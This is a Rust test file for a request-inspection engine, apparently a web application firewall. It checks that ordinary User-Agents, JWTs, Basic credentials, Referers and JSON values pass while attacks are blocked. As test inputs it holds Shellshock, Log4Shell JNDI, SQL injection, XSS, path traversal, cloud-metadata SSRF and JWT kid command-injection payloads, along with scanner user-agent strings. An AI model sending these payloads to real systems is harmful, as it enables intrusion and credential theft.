//! The fast paths (word-only values, plain User-Agents, credentials, plain Referer URLs,
//! the per-thread memo) must skip only what cannot be an attack: every table below pairs
//! look-alike legitimate input that passes with attacks in the same place that must stay
//! blocked.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use portcullis_inspect::{Class, Engine, Inspection, Request, Settings};

fn engine() -> Engine {
    Engine::new(Settings::default())
}

fn with_header(name: &str, value: &str) -> Inspection {
    let headers: Vec<(&str, &[u8])> = vec![(name, value.as_bytes())];
    engine().inspect(&Request {
        method: "GET",
        path: "/v1/orders",
        query: None,
        headers: &headers,
        body: b"",
    })
}

fn json_value(v: &str) -> Inspection {
    let body = serde_json::json!({ "v": v }).to_string();
    let headers: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
    engine().inspect(&Request {
        method: "POST",
        path: "/v1/orders",
        query: None,
        headers: &headers,
        body: body.as_bytes(),
    })
}

fn b64url(s: &str) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let b = s.as_bytes();
    let mut out = String::new();
    for chunk in b.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |acc, (i, &x)| acc | u32::from(x) << (16 - 8 * i));
        for i in 0..=chunk.len() {
            out.push(char::from(A[(n >> (18 - 6 * i)) as usize & 63]));
        }
    }
    out
}

fn jwt(header: &str) -> String {
    format!(
        "Bearer {}.{}.c2lnbmF0dXJlLW5vdC1jaGVja2VkLWhlcmU",
        b64url(header),
        b64url(r#"{"sub":"7f3c2a90-1b6e-4c8a-9d2f-0e5a6b7c8d91","name":"Siobhan O'Brien"}"#)
    )
}

#[test]
fn ordinary_user_agents_pass_injected_ones_block() {
    for ua in [
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:105.0) Gecko/20100101 Firefox/105.0",
        "Dalvik/2.1.0 (Linux; U; Android 13; SM-S918B Build/TP1A.220624.014)",
        "okhttp/4.12.0",
        "python-requests/2.31.0",
        "Mozilla/5.0 (compatible; InternalBot/1.0; +http://10.0.0.5/bot.html)",
        "kube-probe/1.29",
    ] {
        let out = with_header("user-agent", ua);
        assert!(out.findings.is_empty(), "{ua}: {:?}", out.findings);
    }
    for ua in [
        "() { :; }; /bin/bash -c 'cat /etc/passwd'",
        "Mozilla/5.0 (X11; Linux) ' or 1=1--",
        "Mozilla/5.0 ${jndi:ldap://evil.example/a}",
        "Mozilla/5.0 (X11; 1 union select 1,2,3)",
        "<script>alert(1)</script>",
        "Mozilla/5.0 (X11; Linux) ../../../../etc/passwd",
        // Not a product list: a URL to an internal address is judged as a value.
        "http://169.254.169.254/latest/meta-data/",
        "http://[0:0:0:0:0:ffff:a9fe:a9fe]",
    ] {
        assert!(with_header("user-agent", ua).blocked, "{ua}");
    }
}

#[test]
fn jwt_header_is_judged_and_never_shown() {
    let plain = jwt(r#"{"alg":"RS256","typ":"JWT","kid":"2024-06-key-1"}"#);
    let out = with_header("authorization", &plain);
    assert!(!out.blocked, "{:?}", out.findings);
    for header in [
        r#"{"alg":"HS256","kid":"../../../../../../dev/null"}"#,
        r#"{"alg":"HS256","kid":"x' union select 'secret"}"#,
        r#"{"alg":"HS256","kid":"key1|/usr/bin/id"}"#,
        r#"{"alg":"RS256","jku":"http://169.254.169.254/latest/meta-data/"}"#,
    ] {
        let out = with_header("authorization", &jwt(header));
        assert!(out.blocked, "{header}");
        for f in &out.findings {
            assert!(
                f.location.starts_with("header.authorization"),
                "{}",
                f.location
            );
            assert!(!f.evidence.contains("union") && !f.evidence.contains("dev/null"));
        }
    }
}

#[test]
fn basic_credentials_are_decoded_and_judged() {
    // base64("admin' or '1'='1:x") and base64("alice:correct horse battery staple")
    let out = with_header("authorization", "Basic YWRtaW4nIG9yICcxJz0nMTp4");
    assert!(out.blocked);
    assert!(out.findings.iter().all(|f| !f.evidence.contains("admin")));
    let out = with_header(
        "authorization",
        "Basic YWxpY2U6Y29ycmVjdCBob3JzZSBiYXR0ZXJ5IHN0YXBsZQ==",
    );
    assert!(!out.blocked, "{:?}", out.findings);
    // A credential that is not a well-formed token is judged whole.
    assert!(with_header("authorization", "Bearer ' or 1=1--").blocked);
}

#[test]
fn plain_referers_pass_their_parameters_are_judged() {
    for r in [
        "https://www.google.com/search?q=oak+garden+table",
        "https://shop.example.com/orders?page=2&sort=recent",
        "https://www.example.org/",
        // Addresses of the site itself and its links are not fetch targets.
        "http://192.168.1.1/status?page=2",
        "http://localhost:3000/dashboard?tab=usage",
        "http://192.168.1.20:8080/admin/status?next=http%3A%2F%2F192.168.1.20%3A8080%2Fadmin",
        "http://localhost:3000/login?redirect=http://localhost:3000/home",
        "https://shop.example.com/login?next=https%3A%2F%2Fshop.example.com%2Faccount",
    ] {
        let out = with_header("referer", r);
        assert!(out.findings.is_empty(), "{r}: {:?}", out.findings);
    }
    for r in [
        "https://shop.example.com/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "https://shop.example.com/search?q=1%27%20or%201%3D1--",
        "https://shop.example.com/?%3Csvg%20onload%3Dalert(1)%3E",
        "https://shop.example.com/../../../../etc/passwd",
        "javascript:alert(document.cookie)",
        // A parameter of the Referer is judged as a parameter, SSRF included.
        "https://shop.example.com/search?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
        "https://shop.example.com/search?q=gopher%3A%2F%2F0x7f000001%3A6379%2F_FLUSHALL",
        "https://shop.example.com/search?q=http%3A%2F%2F169.16689662%2F",
    ] {
        assert!(with_header("referer", r).blocked, "{r}");
    }
}

#[test]
fn word_only_values_keep_their_word_attacks() {
    for v in [
        "1 union select 1,2,3",
        "1 procedure analyse",
        "169.254.169.254",
        "metadata.google.internal",
        "web.config",
        "java.lang.Runtime",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    ] {
        assert!(json_value(v).blocked, "{v}");
    }
    for v in [
        "select a plan",
        "drop-down",
        "O'Brien",
        "Siobhan O'Brien",
        "7f3c2a90-1b6e-4c8a-9d2f-0e5a6b7c8d91",
        "en-GB",
        "created_at",
        "Chrome 124 on macOS",
        "Loved it <3",
        "SKU-1042-GRN",
    ] {
        let out = json_value(v);
        assert!(!out.blocked, "{v}: {:?}", out.findings);
    }
}

#[test]
fn memo_keeps_verdicts_per_origin() {
    // The same word as a JSON key and as a JSON value is judged differently; the memo
    // must not hand one place the other's verdict, in either order.
    let headers: Vec<(&str, &[u8])> = vec![("content-type", b"application/json")];
    let inspect = |body: &str| {
        engine().inspect(&Request {
            method: "POST",
            path: "/",
            query: None,
            headers: &headers,
            body: body.as_bytes(),
        })
    };
    for _ in 0..3 {
        let as_key = inspect(r#"{"__proto__":{"admin":true}}"#);
        let as_value = inspect(r#"{"note":"__proto__"}"#);
        let key_score = as_key
            .findings
            .iter()
            .find(|f| f.class == Class::PrototypePollution)
            .map(|f| f.score);
        let value_score = as_value
            .findings
            .iter()
            .find(|f| f.class == Class::PrototypePollution)
            .map_or(0, |f| f.score);
        assert!(as_key.blocked);
        assert!(key_score > Some(value_score), "{key_score:?} {value_score}");
    }
    // Same request twice: same findings.
    let body = r#"{"q":"information_schema","user":"whoami"}"#;
    assert_eq!(inspect(body), inspect(body));
}

#[test]
fn attack_tool_agents_are_their_own_class() {
    for ua in [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "Mozilla/5.0 zgrab/0.x",
        "Arachni/0.2.1",
    ] {
        let out = with_header("user-agent", ua);
        assert!(out.blocked, "{ua}");
        assert_eq!(out.findings[0].class, Class::Scanner, "{ua}");
    }
    for ua in [
        "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
        "Googlebot/2.1 (+http://www.google.com/bot.html)",
        "Niktoss-Weather/3.1 (iPhone; iOS 17.4)",
    ] {
        let out = with_header("user-agent", ua);
        assert!(!out.blocked, "{ua}: {:?}", out.findings);
    }
    // Operators who scan themselves exclude the class at the header.
    let settings = Settings {
        exclusions: vec!["header.user-agent:scanner".parse().unwrap()],
        ..Settings::default()
    };
    let headers: Vec<(&str, &[u8])> = vec![("user-agent", b"sqlmap/1.7.2#stable")];
    let out = Engine::new(settings).inspect(&Request {
        method: "GET",
        path: "/",
        query: None,
        headers: &headers,
        body: b"",
    });
    assert!(!out.blocked, "{:?}", out.findings);
}

/// The per-thread memo of quiet header fields (User-Agent, Authorization, Cookie) skips a
/// repeated value only when it gave nothing: the same request judged again gives the
/// same findings, an attack stays blocked however often it comes, and a value that is
/// quiet alone still pairs with the values around it.
#[test]
fn repeated_header_fields_judged_alike() {
    let quiet_ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)";
    let token = jwt(r#"{"alg":"RS256","typ":"JWT","kid":"16c3d4d5"}"#);
    let bad_token = jwt(r#"{"alg":"HS256","kid":"../../../../dev/null"}"#);
    let cases: Vec<Vec<(&str, &str)>> = vec![
        vec![("user-agent", quiet_ua), ("authorization", &token)],
        vec![("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        vec![("authorization", &bad_token)],
        vec![("cookie", "lang=en; theme=dark")],
        vec![("cookie", "lang=en; q=' union select password from users--")],
        vec![
            ("user-agent", quiet_ua),
            ("cookie", "PHPSESSID=x"),
            ("user-agent", quiet_ua),
        ],
    ];
    for headers in &cases {
        let hs: Vec<(&str, &[u8])> = headers.iter().map(|(n, v)| (*n, v.as_bytes())).collect();
        let req = Request {
            method: "GET",
            path: "/v1/orders",
            query: Some("path=x"),
            headers: &hs,
            body: b"",
        };
        let first = engine().inspect(&req);
        for _ in 0..3 {
            assert_eq!(engine().inspect(&req), first, "{headers:?}");
        }
    }
    for (name, v) in [
        ("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("authorization", bad_token.as_str()),
        ("cookie", "lang=en; q=' union select password from users--"),
    ] {
        for _ in 0..3 {
            assert!(with_header(name, v).blocked, "{name}: {v}");
        }
    }
    // The limit on values: a repeated field is counted, so what follows it is cut alike.
    let limited = Engine::new(Settings {
        max_values: 4,
        ..Settings::default()
    });
    let hs: Vec<(&str, &[u8])> = vec![
        ("user-agent", quiet_ua.as_bytes()),
        ("x-note", b"' or 1=1--"),
    ];
    let req = Request {
        method: "GET",
        path: "/a/b",
        query: None,
        headers: &hs,
        body: b"",
    };
    let first = limited.inspect(&req);
    assert_eq!(limited.inspect(&req), first);
}
